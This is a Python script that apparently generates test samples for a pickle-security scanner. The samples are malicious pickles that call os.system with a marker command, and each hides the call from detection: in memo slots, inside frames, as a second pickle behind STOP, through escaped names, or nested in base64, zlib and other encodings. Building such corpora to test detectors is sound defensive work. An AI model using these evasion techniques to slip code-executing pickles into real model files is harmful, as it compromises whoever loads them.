"""Pickles that hide what they call: in the memo, behind frames, in a second pickle, behind STOP, in bytes within bytes."""

import base64
import bz2
import gzip
import lzma
import pickle
import struct
import zlib

from assemble import Call, Raw, Ref, assemble, body, framed, octets, text
from gadgets import CODE, FEW, TOUCH, calls
from sample import MARKER, Family

family = Family("malicious", "hidden", "specification")
SYSTEM = calls("os:system", TOUCH)
BAD = assemble(SYSTEM, 2)
HARMLESS = pickle.dumps({"weights": [0.5, 1.5], "epoch": 3}, 2)


def add(name, data, why, load="pickle", effect="process", **more):
    family.add(f"{name}.pkl", data, "pickle", why, effect=effect, load=load, **more)


def put(slot, protocol):
    return f"p{slot}\n".encode() if protocol == 0 else (b"q" + bytes([slot]) if slot < 256 else b"r" + struct.pack("<I", slot))


def get(slot, protocol):
    return f"g{slot}\n".encode() if protocol == 0 else (b"h" + bytes([slot]) if slot < 256 else b"j" + struct.pack("<I", slot))


# The memo: what is called was put there long before, under a slot that held something harmless, or under a far one.
for protocol in range(6):
    touch = body((TOUCH,), protocol)
    ref = body(Ref("os", "system"), protocol)
    ordered = body(Ref("collections", "OrderedDict"), protocol)
    add(f"memo/callable-p{protocol}", assemble(Raw(ref + put(7, protocol) + b"0" + get(7, protocol) + touch + b"R"), protocol), "the callable comes out of the memo")
    add(f"memo/overwritten-p{protocol}", assemble(Raw(ordered + put(1, protocol) + b"0" + ref + put(1, protocol) + b"0" + get(1, protocol) + touch + b"R"), protocol), "a memo slot holds OrderedDict first, then os.system")
    add(f"memo/arguments-p{protocol}", assemble(Raw(touch + put(2, protocol) + b"0" + ref + get(2, protocol) + b"R"), protocol), "the arguments come out of the memo")
    if protocol >= 1:
        add(f"memo/far-slot-p{protocol}", assemble(Raw(ref + put(100_000, protocol) + b"0" + get(100_000, protocol) + touch + b"R"), protocol), "the callable lies in memo slot 100000")
for protocol in (4, 5):
    words = text("os", protocol) + b"\x94" + text("system", protocol) + b"\x94" + text("collections", protocol) + b"\x94" + text("OrderedDict", protocol) + b"\x94" + b"0000"
    touch = body((TOUCH,), protocol)
    add(f"memo/words-p{protocol}", assemble(Raw(words + b"h\x00h\x01\x93" + touch + b"R"), protocol), "module and name are words of the memo")
    # MEMOIZE numbers by what is in the memo: a slot that was put twice shifts the next.
    shifted = text("x", protocol) + b"q\x05q\x05" + b"\x94" + b"0" + body(Ref("os", "system"), protocol) + b"\x94" + b"0" + b"h\x02" + touch + b"R"
    add(f"memo/memoize-after-put-p{protocol}", assemble(Raw(shifted), protocol), "MEMOIZE counts the slots, not the highest one: slot 2 is os.system")

# On the stack: called and thrown away, doubled, under a mark.
for protocol in (0, 2, 4):
    call = body(SYSTEM, protocol)
    add(f"stack/popped-p{protocol}", assemble(Raw(call + b"0" + body({"epoch": 3}, protocol)), protocol), "the result of the call is popped, and a dict is the pickle's value")
    add(f"stack/doubled-p{protocol}", assemble(Raw(body(Ref("os", "system"), protocol) + b"2" + body((TOUCH,), protocol) + b"R0" + body((TOUCH,), protocol) + b"R"), protocol), "DUP keeps the callable for a second call")
    if protocol:
        add(f"stack/pop-mark-p{protocol}", assemble(Raw(b"(" + call + body(1, protocol) + b"1" + body([], protocol)), protocol), "the call happens under a mark, and POP_MARK throws it away")
        add(f"stack/mark-popped-p{protocol}", assemble(Raw(b"(" + b"0" + call), protocol), "POP takes a mark off, and the call follows")
    deep = body(SYSTEM, protocol)
    for _ in range(60):
        deep = b"(" + deep + b"t"
    add(f"stack/deep-p{protocol}", assemble(Raw(deep), protocol), "the call is inside of 60 tuples")
    add(f"stack/dict-key-p{protocol}", assemble(Raw(b"(d" + body(SYSTEM, protocol) + body(1, protocol) + b"s"), protocol), "the call makes the key of a dict")
    long = b"".join(body(number, protocol) + b"0" for number in range(3000))
    add(f"stack/behind-many-p{protocol}", assemble(Raw(long + call), protocol), "3000 harmless opcodes come first")

# Strings in every form that a name can have.
NAMES = {
    "short-binstring": b"U\x02os" b"U\x06system\x93",
    "binstring": b"T\x02\0\0\0os" b"T\x06\0\0\0system\x93",
    "string-escapes": b"S'\\x6f\\163'\n" b"S'sy\\x73tem'\n\x93",
    "unicode-escapes": b"V\\u006fs\n" b"V\\u0073ystem\n\x93",
    "binunicode": b"X\x02\0\0\0os" b"X\x06\0\0\0system\x93",
    "binunicode8": b"\x8d\x02\0\0\0\0\0\0\0os" b"\x8d\x06\0\0\0\0\0\0\0system\x93",
    "global-line": b"cos\nsystem\n",
}
for name, opcodes in NAMES.items():
    add(f"names/{name}", assemble(Raw(opcodes + body((TOUCH,), 4) + b"R"), 4), f"names os.system by {name}")
ARGUMENTS = {
    "tuple1": body(TOUCH, 4) + b"\x85",
    "list-to-tuple": body(calls("builtins:tuple", [TOUCH]), 4),
    "bytes": body((TOUCH.encode(),), 4),
    "bytearray": body((calls("os:fsdecode", TOUCH.encode()),), 4),
    "joined": body((Call(calls("builtins:getattr", " ", "join"), (["touch", MARKER],)),), 4),
    "formatted": body((Call(calls("builtins:getattr", "{} {}", "format"), ("touch", MARKER)),), 4),
    "reversed": body((Call(calls("builtins:getattr", "", "join"), (calls("builtins:reversed", TOUCH[::-1]),)),), 4),
    "base64": body((calls("base64:b64decode", base64.b64encode(TOUCH.encode())),), 4),
}
for name, opcodes in ARGUMENTS.items():
    add(f"arguments/{name}", assemble(Raw(body(Ref("os", "system"), 4) + opcodes + b"R"), 4), f"the command is given as {name}")

# Frames.
for gadget in FEW[:4]:
    inside = body(gadget.call, 4)
    for name, data in {
        "one": b"\x80\x04" + framed(inside + b"."),
        "empty-first": b"\x80\x04" + framed(b"") + framed(inside + b"."),
        "harmless-first": b"\x80\x04" + framed(b"}0") + framed(inside) + framed(b"."),
        "unframed-behind": b"\x80\x04" + framed(b"}0") + inside + b".",
    }.items():
        add(f"frame/{name}-{gadget.name}", data, f"calls {gadget.name}; frames: {name}", effect=gadget.effect)
# What CPython's two picklers do not agree on: one runs it, the other stops.
inside = body(SYSTEM, 4) + b"."
add("frame/across", b"\x80\x04" + b"\x95" + struct.pack("<Q", 4) + inside, "an opcode reaches over the end of its frame: C goes on where Python stops")
family.add("frame/too-long.pkl", b"\x80\x04\x95" + struct.pack("<Q", 2**16) + inside, "pickle", "a frame is longer than the file", effect="process", unproven="both picklers of CPython stop at the frame; a reader that goes by opcodes does not")
add("frame/nested", b"\x80\x04" + framed(framed(body(SYSTEM, 4)) + b"."), "a frame within a frame")

# Several pickles in one file, and what stands between and behind.
for gadget in FEW:
    for protocol in (0, 2, 4):
        data = pickle.dumps([1, 2, 3], protocol) + assemble(gadget.call, protocol)
        add(f"second/{gadget.name}-p{protocol}", data, f"the second pickle of the file calls {gadget.name}", "pickle-all", gadget.effect)
add("second/hundredth", HARMLESS * 99 + BAD, "the hundredth pickle of the file", "pickle-all")
for name, gap in {"zeros": b"\0" * 64, "newline": b"\n", "noise": bytes(range(200, 256)), "text": b"\nend of file\n"}.items():
    add(f"behind/{name}", HARMLESS + gap + BAD, f"behind STOP and {len(gap)} bytes of {name} stands another pickle", "pickle-behind", steps=[len(HARMLESS) + len(gap)])
    add(f"before/{name}", gap + BAD, f"a header of {len(gap)} bytes of {name}, then a pickle", "pickle-behind", steps=[len(gap)])

# Bytes that are a pickle again, which the application or another call opens.
PACKERS = {
    "plain": lambda data: data,
    "base64": base64.b64encode,
    "hex": lambda data: data.hex(),
    "zlib": zlib.compress,
    "gzip": lambda data: gzip.compress(data, mtime=0),
    "bz2": bz2.compress,
    "lzma": lzma.compress,
}
for number, (name, pack) in enumerate(PACKERS.items()):
    steps = ["state"] + ([] if name == "plain" else [name]) + ["pickle"]
    for protocol in (2, 4):
        data = pickle.dumps({"epoch": 1, "state": pack(BAD)}, protocol)
        add(f"payload/{name}-p{protocol}", data, f"bytes within are a pickle that runs, {name}", steps=steps)
    twice = PACKERS["zlib"](pickle.dumps({"inner": pack(BAD)}, 4))
    data = pickle.dumps({"state": twice}, 4)
    add(f"payload/{name}-twice", data, f"a pickle in {name} in a pickle in zlib in a pickle", steps=["state", "zlib", "pickle", "inner", *steps[1:]])
text_in = pickle.dumps({"note": base64.b64encode(zlib.compress(BAD)).decode()}, 4)
add("payload/base64-zlib-text", text_in, "a text within is base64 of zlib of a pickle", steps=["note", "base64", "zlib", "pickle"])
DECODERS = {
    "base64": calls("base64:b64decode", base64.b64encode(BAD)),
    "binascii": calls("binascii:a2b_base64", base64.b64encode(BAD)),
    "hex": calls("binascii:unhexlify", BAD.hex()),
    "bytes-fromhex": Call(Ref("builtins", "bytes.fromhex"), (BAD.hex(),)),
    "codecs-hex": calls("codecs:decode", BAD.hex().encode(), "hex"),
    "zlib": calls("zlib:decompress", zlib.compress(BAD)),
    "gzip": calls("gzip:decompress", gzip.compress(BAD, mtime=0)),
    "bz2": calls("bz2:decompress", bz2.compress(BAD)),
    "lzma": calls("lzma:decompress", lzma.compress(BAD)),
    "slice": calls("operator:getitem", b"xx" + BAD, calls("builtins:slice", 2, None)),
}
for name, call in DECODERS.items():
    data = assemble(calls("pickle:loads", call), 4)
    add(f"decoded/{name}", data, f"pickle.loads of what {name} gives", effect="deserialise")
add("decoded/exec-zlib", assemble(calls("builtins:exec", calls("zlib:decompress", zlib.compress(CODE.encode()))), 4), "exec of what zlib gives", effect="code")

# Broken on purpose behind the call: it has run by the time that the loader complains.
for gadget in FEW:
    whole = assemble(gadget.call, 3)
    for name, data in {"no-stop": whole[:-1], "bad-opcode": whole[:-1] + b"\xff\xfe.", "bad-memo": whole[:-1] + b"h\xf0."}.items():
        add(f"broken/{name}-{gadget.name}", data, f"calls {gadget.name}, then {name}", effect=gadget.effect)

# Whole pickles in one stream of a compressor.
for name, pack in {"gzip": PACKERS["gzip"], "bz2": bz2.compress, "xz": lzma.compress, "lzma": lambda data: lzma.compress(data, lzma.FORMAT_ALONE)}.items():
    family.add(f"packed/model.pkl.{name}", pack(BAD), name, f"a pickle that runs, in {name}", effect="process", load="packed", steps=[name])

family.finish()
